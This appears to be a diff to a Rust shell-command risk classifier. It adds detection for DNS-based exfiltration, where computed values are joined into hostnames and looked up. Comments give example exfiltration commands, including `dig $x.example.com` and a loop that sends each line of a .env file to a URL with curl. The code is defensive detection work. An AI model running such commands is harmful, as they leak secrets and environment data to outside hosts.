@@ -76,6 +76,15 @@ pub(super) fn candidates<'t>(look: &Look<'t>) -> Vec<Candidate<'t>> {
     if sends_personal(look, tool) {
         found.push(Look::stand_alone(&known.bulk_to_network, Category::NetworkTransfer));
     }
+    if tool.asks && joins_names(look) {
+        let secret = piped.secret || substituted.secret;
+        let read = piped.environment || substituted.environment || piped.decoded || substituted.decoded;
+        if secret {
+            found.push(Look::stand_alone(&known.secret_to_network, Category::SecretsAndCredentials));
+        } else if read {
+            found.push(Look::stand_alone(&known.environment_to_network, Category::SecretsAndCredentials));
+        }
+    }
     if tool.sends || sends_under(look, tool) {
         let secret = piped.secret
             || substituted.secret
@@ -94,6 +103,15 @@ pub(super) fn candidates<'t>(look: &Look<'t>) -> Vec<Candidate<'t>> {
         }
     }
     found
+}
+
+/// `dig $x.example.com`, `xargs -I{} dig {}.example.com`: what comes from elsewhere becomes a part of a name.
+fn joins_names(look: &Look<'_>) -> bool {
+    look.seen.words.iter().skip(1).take(16).any(|word| {
+        let text = word.text.to_lossy();
+        let computed = !word.literal && text.contains(['$', '`']);
+        computed && text.contains('.') || look.seen.appends && text.contains("{}.")
+    })
 }
 
 /// `while read l; do curl "$u/$l"; done < .env`: what stands behind a loop is what those in it read.
